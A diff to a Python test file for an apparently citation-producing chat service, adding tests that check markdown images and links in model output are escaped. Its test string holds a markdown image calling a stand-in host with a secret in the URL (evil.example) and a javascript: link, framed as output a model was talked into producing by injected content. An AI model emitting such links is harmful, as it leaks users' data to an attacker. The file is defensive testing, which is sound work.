@@ -181,6 +181,30 @@ def test_markup_in_a_passage_is_no_markup_in_a_chat(tmp_path):
     assert said.annotations[0]["url_citation"]["title"] == hostile
 
 
+MARKDOWN = "![x](http://evil.example/b.png?q=SECRET) It was designed by Ines Halloran, see [it](javascript:alert(1))."
+
+
+def test_an_image_or_a_link_that_a_model_was_talked_into_is_none_in_a_chat(tmp_path):
+    llm = Scripted([("", f"{MARKDOWN}\nSo the answer is: Ines Halloran.")])
+    with official_client(app_over(tmp_path, llm)) as client:
+        asked = {"model": "cot@light", "messages": ASKED}
+        whole = client.chat.completions.create(**asked).choices[0].message.content
+        chunks = [chunk.choices[0].delta for chunk in client.chat.completions.create(**asked, stream=True) if chunk.choices]
+    reasoning = "".join(getattr(delta, "reasoning_content", "") or "" for delta in chunks)
+    for shown in (whole, "".join(delta.content or "" for delta in chunks), reasoning):
+        assert "](" not in shown
+    assert r"![x]\(http://evil.example/b.png?q=SECRET)" in whole
+
+
+def test_marks_keep_their_places_in_an_answer_with_escaped_links(tmp_path):
+    llm = Scripted([("", f"{MARKDOWN} It was designed by Ines Halloran [1].\nSo the answer is: Ines Halloran.")])
+    with official_client(app_over(tmp_path, llm)) as client:
+        message = client.chat.completions.create(model=MODEL, messages=ASKED).choices[0].message
+    marked = [one.url_citation for one in message.annotations]
+    assert marked
+    assert {message.content[one.start_index : one.end_index] for one in marked} == {"[1]"}
+
+
 @pytest.mark.parametrize(
     ("file", "below"),
     [
@@ -218,7 +242,7 @@ def test_the_words_that_contradict_an_answer_stand_below_its_sources(tmp_path):
     made["answer"]["verdict"] |= {"support": "contradicted", "num_supported": 0, "num_contradicted": 1}
     said = cited(Record.from_json(json.dumps(made)), "http://127.0.0.1/")
     first, second = said.text.split("\n\n")[-1].split("\n")
-    assert "(Passages disagree on this.)" in said.text
+    assert "(Passages disagree.)" in said.text
     assert first.startswith("[1] ")
     assert second.startswith("Says otherwise: ")
     assert second.endswith(f': "{other["text"][:9]}"')
